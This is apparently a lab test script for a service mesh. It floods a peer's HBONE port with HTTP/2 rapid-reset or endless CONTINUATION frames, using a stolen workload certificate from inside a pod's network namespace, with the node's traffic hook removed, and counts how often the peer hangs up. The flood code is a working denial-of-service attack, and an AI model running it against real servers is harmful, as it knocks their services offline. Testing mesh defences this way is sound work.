"""A node that was taken over floods another with frames until it is killed: no hook, and the certificate of one of its
workloads. Runs in the node's own namespace, and the node's agent is at rest.
argv: kind netns veth state namespace/account host authority sni forwarded.
rapid-reset: streams that are reset as soon as they are asked for; continuation: heads that never end. The peer hangs up on
either; then it dials again. SIGTERM: once the peer has hung up, it prints, as JSON, how often that was."""

import contextlib
import ctypes
import json
import os
import signal
import socket
import subprocess
import sys
from pathlib import Path

from lab import peer
from mesh.ports import HBONE_PORT

kind, netns, veth, state, who, host, authority, sni, forwarded = sys.argv[1:10]
STREAMS = 2000
BATCH = 20
HANGS_UP_S = 30


def rapid_reset() -> list[bytes]:
    """What one connection sends: the same bytes on each."""
    own = peer.http2()
    pieces = []
    for index in range(STREAMS):
        own.send_headers(2 * index + 1, peer.tunnel(authority, forwarded))
        own.reset_stream(2 * index + 1, 8)
        if index % BATCH == BATCH - 1:
            pieces.append(own.data_to_send())
    return pieces


def continuation() -> list[bytes]:
    begin, more = peer.endless_head()
    return [begin] + [more] * STREAMS


pieces = {"rapid-reset": rapid_reset, "continuation": continuation}[kind]()
context = peer.certified(Path(state), who)
pod = os.open(netns, os.O_RDONLY)
libc = ctypes.CDLL(None, use_errno=True)


def enter(namespace: int) -> None:
    if libc.setns(namespace, 0):
        raise OSError(ctypes.get_errno(), "setns")


over: list[int] = []
refused = 0
signal.signal(signal.SIGTERM, lambda number, _: over.append(number))
subprocess.run(["tc", "qdisc", "del", "dev", veth, "clsact"], stderr=subprocess.DEVNULL, check=False)  # or it is off already
enter(pod)
while not over:
    with contextlib.suppress(OSError):
        plain = socket.create_connection((host, HBONE_PORT), HANGS_UP_S)
        with context.wrap_socket(plain, server_hostname=sni) as sock:
            try:
                for piece in pieces:
                    sock.sendall(piece)
                while sock.recv(65536):
                    pass
            except TimeoutError:
                continue
            except OSError:
                pass
            refused += 1
print(json.dumps({"refused": refused}), flush=True)
